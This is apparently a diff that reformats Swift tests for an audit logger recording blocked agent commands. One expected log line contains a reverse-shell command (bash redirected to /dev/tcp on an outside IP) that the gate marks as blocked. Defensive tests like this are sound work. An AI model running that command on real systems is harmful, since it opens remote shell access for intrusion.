@@ -1,6 +1,7 @@
+import CordonPolicy
 import Glibc
 import Testing
-import CordonPolicy
+
 @testable import CordonAudit
 
 @Suite("gate.log writing")
@@ -23,7 +24,10 @@ struct GateLogTests {
         }
         #expect(keys == LogRecord.keys)
         #expect(text.hasPrefix("2026-11-18T"))  // 1_795_000_000_001 ms
-        #expect(text.contains(" decision=block score=92 level=safe agent=ci-agent session=s-1 run=r-1 action=a-1 source=gate pid=4242 rule=reverse-shell cmd=\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\" reasons=\"reverse shell via /dev/tcp; second\" chain="))
+        #expect(
+            text.contains(
+                " decision=block score=92 level=safe agent=ci-agent session=s-1 run=r-1 action=a-1 source=gate pid=4242 rule=reverse-shell cmd=\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\" reasons=\"reverse shell via /dev/tcp; second\" chain="
+            ))
         var back = try LogRecord.parse(Array(text.utf8).dropLast())
         #expect(back.chain.count == 16)
         back.chain = ""
@@ -114,7 +118,8 @@ struct GateLogTests {
         let dir = makeTempDir()
         defer { removeTree(dir) }
         let d = LogDirectory(path: dir)
-        let a = try GateLogWriter(directory: d), b = try GateLogWriter(directory: d)
+        let a = try GateLogWriter(directory: d)
+        let b = try GateLogWriter(directory: d)
         for i in 0..<10 {
             try a.append(sampleRecord(i))
             try b.append(sampleRecord(100 + i))
@@ -131,7 +136,9 @@ struct GateLogFailureTests {
         let dir = makeTempDir()
         defer { removeTree(dir) }
         writeText(dir + "/file", "x")
-        let e = try #require(throws: AuditError.self) { try GateLogWriter(directory: LogDirectory(path: dir + "/file/.cordon")) }
+        let e = try #require(throws: AuditError.self) {
+            try GateLogWriter(directory: LogDirectory(path: dir + "/file/.cordon"))
+        }
         #expect(e.kind == .write)
         #expect(e.message.contains(dir + "/file/.cordon"))
         #expect(e.message.contains("not a directory"))
